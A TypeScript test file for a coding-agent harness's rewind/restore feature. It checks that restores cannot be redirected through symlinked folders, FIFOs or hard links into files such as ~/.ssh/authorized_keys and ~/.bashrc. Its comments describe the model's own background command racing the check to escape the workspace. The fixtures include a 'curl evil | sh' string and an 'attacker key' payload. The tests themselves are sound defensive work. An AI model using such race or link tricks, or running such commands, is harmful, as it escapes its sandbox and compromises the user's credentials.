import { execFileSync } from "node:child_process";
import {
  existsSync,
  linkSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { deleteRegularFile, whyNotRestorable, writeNoFollow } from "../../src/harness/restore-path.js";

// Issue 21 item 3, attacked again: `whyNotRestorable` looks at every folder on the way, but the write after it
// guarded only the last part (O_NOFOLLOW). A folder swapped for a link between the look and the write — the
// model's background command can do that while the user answers /rewind's question — carried the restore into
// ~/.ssh. The write and the delete themselves must refuse to pass through a linked folder.

let base: string;
let cwd: string;
let outside: string;
beforeEach(() => {
  base = realpathSync(mkdtempSync(join(tmpdir(), "mitsu-rewind-race-")));
  cwd = join(base, "project");
  outside = join(base, "home", ".ssh");
  mkdirSync(join(cwd, "src"), { recursive: true });
  mkdirSync(outside, { recursive: true });
});
afterEach(() => rmSync(base, { recursive: true, force: true }));

/** The check passes while src is a folder; then src becomes a link to ~/.ssh, as a racing command would make it. */
function swapAfterCheck(file: string): string {
  const path = join(cwd, "src", file);
  expect(whyNotRestorable(path, [cwd])).toBeUndefined();
  rmSync(join(cwd, "src"), { recursive: true });
  symlinkSync(outside, join(cwd, "src"));
  return path;
}

describe("a restore after the check, through a folder swapped for a link", () => {
  it("does not overwrite a file out there", () => {
    writeFileSync(join(cwd, "src", "authorized_keys"), "checkpointed\n");
    writeFileSync(join(outside, "authorized_keys"), "the user's keys\n");
    const path = swapAfterCheck("authorized_keys");
    expect(() => writeNoFollow(path, Buffer.from("attacker key\n"), [cwd])).toThrow(/link/);
    expect(readFileSync(join(outside, "authorized_keys"), "utf8")).toBe("the user's keys\n");
  });

  it("does not create a file out there (nor leave an empty one)", () => {
    const path = swapAfterCheck("rc");
    expect(() => writeNoFollow(path, Buffer.from("attacker\n"), [cwd])).toThrow(/link/);
    expect(existsSync(join(outside, "rc"))).toBe(false);
  });

  it("does not delete a file out there", () => {
    writeFileSync(join(cwd, "src", "config"), "model's\n");
    writeFileSync(join(outside, "config"), "the user's config\n");
    const path = swapAfterCheck("config");
    expect(() => deleteRegularFile(path, [cwd])).toThrow(/link/);
    expect(readFileSync(join(outside, "config"), "utf8")).toBe("the user's config\n");
  });

  it("a FIFO put in the file's place after the check does not hang the restore", () => {
    const path = join(cwd, "src", "pipe");
    writeFileSync(path, "checkpointed\n");
    expect(whyNotRestorable(path, [cwd])).toBeUndefined();
    rmSync(path);
    execFileSync("mkfifo", [path]);
    expect(() => writeNoFollow(path, Buffer.from("x\n"), [cwd])).toThrow();
  });

  it("still writes and deletes inside the workspace", () => {
    const path = join(cwd, "src", "a.txt");
    writeFileSync(path, "a longer model's text\n");
    writeNoFollow(path, Buffer.from("orig\n"), [cwd]);
    expect(readFileSync(path, "utf8")).toBe("orig\n");
    writeNoFollow(join(cwd, "src", "new.txt"), Buffer.from("new\n"), [cwd]);
    expect(readFileSync(join(cwd, "src", "new.txt"), "utf8")).toBe("new\n");
    deleteRegularFile(path, [cwd]);
    expect(existsSync(path)).toBe(false);
  });
});

describe("a restore of a file that is a hard link (review b)", () => {
  it("replaces the entry and leaves the file it shared its content with alone", () => {
    const bashrc = join(outside, "..", ".bashrc");
    writeFileSync(bashrc, "the user's bashrc\n");
    // The model replaced a file it had edited by a hard link to ~/.bashrc (`ln -f ~/.bashrc notes.txt`).
    const notes = join(cwd, "notes.txt");
    linkSync(bashrc, notes);
    expect(whyNotRestorable(notes, [cwd])).toBeUndefined();
    writeNoFollow(notes, Buffer.from("curl evil | sh\n"), [cwd]);
    expect(readFileSync(bashrc, "utf8")).toBe("the user's bashrc\n");
    expect(readFileSync(notes, "utf8")).toBe("curl evil | sh\n");
    expect(statSync(notes).nlink).toBe(1);
  });
});

describe("a restore of a file whose folder was deleted since (review b)", () => {
  it("makes the folders again and writes the file, inside the workspace only", () => {
    const path = join(cwd, "src", "deep", "a.ts");
    rmSync(join(cwd, "src"), { recursive: true });
    expect(whyNotRestorable(path, [cwd])).toBeUndefined();
    writeNoFollow(path, Buffer.from("restored\n"), [cwd]);
    expect(readFileSync(path, "utf8")).toBe("restored\n");
  });

  it("a folder on the way that is a link is still refused", () => {
    symlinkSync(outside, join(cwd, "linked"));
    const path = join(cwd, "linked", "deep", "a.ts");
    expect(whyNotRestorable(path, [cwd])).toMatch(/link/);
    expect(() => writeNoFollow(path, Buffer.from("x"), [cwd])).toThrow();
    expect(existsSync(join(outside, "deep"))).toBe(false);
  });
});
